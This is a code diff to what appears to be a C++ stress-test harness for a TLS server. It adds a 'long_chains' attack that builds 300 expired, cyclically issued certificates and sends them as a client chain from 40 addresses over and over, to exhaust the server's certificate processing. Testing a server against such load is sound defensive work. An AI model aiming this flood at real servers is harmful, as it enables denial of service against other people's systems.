@@ -1,5 +1,7 @@
 // Work that comes all at once, or of which nobody is left to blame.
 #include <fmt/format.h>
+#include <openssl/ssl.h>
+#include <openssl/x509.h>
 
 #include <chrono>
 #include <cstdint>
@@ -102,10 +104,52 @@ void EndTogether(const Target& target) {
   }
 }
 
+// Whoever has no certificate makes some: 300 small ones, of which none is valid. OpenSSL takes each apart,
+// and tries to make a chain of them, before it refuses them.
+std::shared_ptr<SSL_CTX> LongChain() {
+  const std::shared_ptr<SSL_CTX> context(SSL_CTX_new(TLS_client_method()), SSL_CTX_free);
+  const std::unique_ptr<EVP_PKEY, decltype(&EVP_PKEY_free)> key(
+      EVP_PKEY_Q_keygen(nullptr, nullptr, "ED25519"), EVP_PKEY_free);
+  for (int i = 0; i < 300; ++i) {
+    X509* const made = X509_new();
+    ASN1_INTEGER_set(X509_get_serialNumber(made), i);
+    X509_gmtime_adj(X509_getm_notBefore(made), -2);
+    X509_gmtime_adj(X509_getm_notAfter(made), -1);
+    const auto* const subject = reinterpret_cast<const unsigned char*>(i % 2 == 0 ? "A" : "B");
+    const auto* const issuer = reinterpret_cast<const unsigned char*>(i % 2 == 0 ? "B" : "A");
+    X509_NAME_add_entry_by_txt(X509_get_subject_name(made), "CN", MBSTRING_ASC, subject, 1, -1, 0);
+    X509_NAME_add_entry_by_txt(X509_get_issuer_name(made), "CN", MBSTRING_ASC, issuer, 1, -1, 0);
+    X509_set_pubkey(made, key.get());
+    X509_sign(made, key.get(), nullptr);
+    if (i == 0) {
+      SSL_CTX_use_certificate(context.get(), made);
+      X509_free(made);
+    } else {
+      SSL_CTX_add0_chain_cert(context.get(), made);
+    }
+  }
+  SSL_CTX_use_PrivateKey(context.get(), key.get());
+  return context;
+}
+
+// From forty addresses at the same instant, again and again.
+void SendLongChains(const Target& target) {
+  constexpr std::uint32_t kHosts = 40;
+  const std::shared_ptr<SSL_CTX> chain = LongChain();
+  while (!target.over) {
+    std::vector<std::jthread> hosts;
+    for (std::uint32_t host = 3; host < 3 + kHosts; ++host) {
+      hosts.emplace_back([&target, &chain, host] {
+        const TlsSocket socket(target.port, chain.get(), host);
+        std::this_thread::sleep_for(milliseconds(200));
+      });
+    }
+  }
+}
+
 constexpr Attack kAttacks[] = {
-    {"tls_records_at_once", CompleteRecordsTogether},
-    {"reused_port", ReuseAPort},
-    {"reports_beside_garbage", ReportBesideGarbage},
+    {"long_chains", SendLongChains}, {"tls_records_at_once", CompleteRecordsTogether},
+    {"reused_port", ReuseAPort},     {"reports_beside_garbage", ReportBesideGarbage},
     {"ends_together", EndTogether},
 };
 
